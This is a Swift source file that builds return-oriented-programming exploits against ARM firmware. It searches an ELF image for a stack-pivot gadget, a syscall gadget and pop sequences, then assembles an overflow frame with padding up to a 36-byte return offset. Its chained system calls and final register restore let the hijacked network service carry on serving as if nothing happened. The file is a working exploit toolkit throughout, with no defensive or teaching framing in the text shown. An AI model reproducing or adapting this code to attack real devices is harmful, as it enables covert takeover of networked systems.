import Formats
import SecureChannel

/// System calls made of a program's own code, one after the other, by addresses on its stack (return-oriented programming).
/// What it needs of the program, its author has looked up in a copy: anybody may download firmware.
public struct ReturnChain {
    /// Places in the program.
    public struct Gadgets {
        /// `mov sp, r0; ldm sp!, {r0-r12, pc}`; four bytes on, without the first.
        var pivot: UInt32
        /// `svc #0; str r0, [r6]; pop {r4-r7, pc}`.
        var call: UInt32
        /// `pop {r4-r7, pc}` at the end of code that nobody misses, with room behind.
        var cold: UInt32
        /// Where frames from the network are kept.
        var buffer: UInt32
        /// Where it waits for the next connection, with the listener in r0.
        var serve: UInt32

        /// - Parameter firmware: The program as an ELF file, in hex; nil if it is none or does not have them.
        public init?(firmware: String) {
            guard let image = [UInt8](hex: firmware).flatMap({ try? ELFImage($0, mayMove: true) }) else { return nil }
            self.init(image)
        }

        /// Nil if the program does not have them.
        init?(_ program: ELFImage) {
            let symbols = ELFSymbols(program.file)
            guard let code = program.segments.first(where: { $0.isExecutable }), let buffer = symbols.address(of: "frame"),
                let serve = symbols.address(of: "serve")
            else { return nil }
            func find(_ words: [UInt32]) -> [UInt32] {
                let pattern = words.littleEndianBytes
                return stride(from: 0, to: max(0, code.bytes.count - pattern.count + 1), by: 4).filter {
                    Array(code.bytes[$0..<$0 + pattern.count]) == pattern
                }.map { code.address + UInt32($0) }
            }
            let ending: UInt32 = 0xE8BD_80F0
            guard let pivot = find([0xE1A0_D000, 0xE8BD_9FFF]).first, let call = find([0xEF00_0000, 0xE586_0000, ending]).first,
                let cold = find([ending]).first(where: { $0 != call + 8 })
            else { return nil }
            (self.pivot, self.call, self.cold, self.buffer, self.serve) = (pivot, call, cold, buffer, serve)
        }
    }

    /// From the start of the local buffer to the return address that it can overwrite.
    static let returnOffset = 36
    /// What a slot holds until something is stored there.
    static let untouched: UInt32 = 0x7FFF_FFFF
    /// Behind all data, and with room below for what the program itself does on this stack.
    private static let stackOffset = 2048
    private static let slotsOffset = 128
    /// On the program's own stack, where it has never been: that is always at the same place.
    private static let freeStack: UInt32 = 0xBEFF_8000

    private let gadgets: Gadgets
    private var data: [UInt8]
    private var stack: [UInt32] = []
    private(set) var slots = 0

    init(_ gadgets: Gadgets) {
        self.gadgets = gadgets
        data = [UInt8](repeating: 0, count: ReturnChain.slotsOffset)
        data += [UInt32](repeating: ReturnChain.untouched, count: 32).littleEndianBytes
    }

    /// Puts bytes where the program will have them; where that is.
    mutating func place(_ bytes: [UInt8]) -> UInt32 {
        data += [UInt8](repeating: 0, count: (4 - data.count % 4) % 4)
        defer { data += bytes }
        return gadgets.buffer + UInt32(data.count)
    }
    mutating func place(_ text: String) -> UInt32 { place(Array(text.utf8) + [0]) }

    var slotsAddress: UInt32 { gadgets.buffer + UInt32(ReturnChain.slotsOffset) }
    private func address(of slot: Int) -> UInt32 { slotsAddress + UInt32(slot * 4) }

    /// All registers, then on to a place.
    private mutating func load(_ registers: [Int: UInt32], _ next: UInt32) {
        stack += (0...12).map { registers[$0] ?? 0 } + [next]
    }

    /// A system call; its result goes into a slot, whose number is given back.
    @discardableResult mutating func call(_ number: UInt32, _ arguments: [UInt32]) -> Int {
        var registers = Dictionary(uniqueKeysWithValues: arguments.enumerated().map { ($0.offset, $0.element) })
        registers[6] = address(of: slots)
        registers[7] = number
        load(registers, gadgets.call)
        stack += [0, 0, 0, 0, gadgets.pivot + 4]
        slots += 1
        return slots - 1
    }

    /// Runs the cold code's end, which does nothing unless it has been rewritten.
    mutating func runCold() -> Int {
        load([6: address(of: slots)], gadgets.cold)
        stack += [0, 0, 0, 0, gadgets.pivot + 4]
        slots += 1
        return slots - 1
    }

    var coldAddress: UInt32 { gadgets.cold }

    /// What is sent: a frame that is only kept, one that overflows and goes on in what the first has left behind, and the
    /// registers with which the program then goes on as before, far from its buffer.
    struct Parts {
        var kept: [UInt8]
        var overflowing: [UInt8]
        var registers: [UInt8]
    }

    /// Ends in a crash, with bytes at the top of the stack.
    mutating func crash(leaving bytes: [UInt8]) -> Parts {
        load([:], 0)
        var parts = self.parts(registers: [])
        parts.kept += bytes
        return parts
    }

    mutating func finish(peer: UInt32, listener: UInt32) -> Parts {
        let registers = [listener] + [UInt32](repeating: 0, count: 12) + [gadgets.serve]
        call(3, [peer, ReturnChain.freeStack, UInt32(registers.count * 4)])
        call(6, [peer])
        load([0: ReturnChain.freeStack], gadgets.pivot)
        return parts(registers: registers)
    }

    private func parts(registers: [UInt32]) -> Parts {
        let start = gadgets.buffer + UInt32(ReturnChain.stackOffset)
        var frame = [UInt8](repeating: 0x41, count: ReturnChain.returnOffset)
        frame += [gadgets.pivot + 4, start].littleEndianBytes + [UInt8](repeating: 0, count: 12 * 4) + gadgets.pivot.littleEndianBytes
        let room = [UInt8](repeating: 0, count: ReturnChain.stackOffset - data.count)
        return Parts(kept: data + room + stack.littleEndianBytes, overflowing: frame, registers: registers.littleEndianBytes)
    }
}
